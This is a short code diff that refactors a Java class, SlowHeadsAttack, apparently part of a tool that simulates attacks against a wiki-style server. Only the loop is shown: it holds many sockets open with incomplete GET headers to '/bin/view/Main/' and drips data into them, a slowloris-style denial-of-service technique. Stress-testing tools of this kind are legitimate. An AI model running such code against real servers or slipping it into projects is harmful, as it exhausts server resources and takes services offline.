@@ -18,15 +18,15 @@ final class SlowHeadsAttack implements Attack
     }
 
     @Override
-    public void run(Siege siege) throws IOException
+    public void run(AttackTarget target) throws IOException
     {
         List<Socket> slow = new ArrayList<>();
-        while (siege.goesOn()) {
-            for (int i = slow.size(); i < CONNECTIONS && siege.goesOn(); i++) {
-                slow.add(siege.open(siege.head("GET", "/bin/view/Main/", null, "X-Slow: ").strip()));
+        while (target.isRunning()) {
+            for (int i = slow.size(); i < CONNECTIONS && target.isRunning(); i++) {
+                slow.add(target.open(target.head("GET", "/bin/view/Main/", null, "X-Slow: ").strip()));
             }
-            siege.pause(1000);
-            Siege.drip(slow);
+            target.pause(1000);
+            AttackTarget.drip(slow);
         }
     }
 }
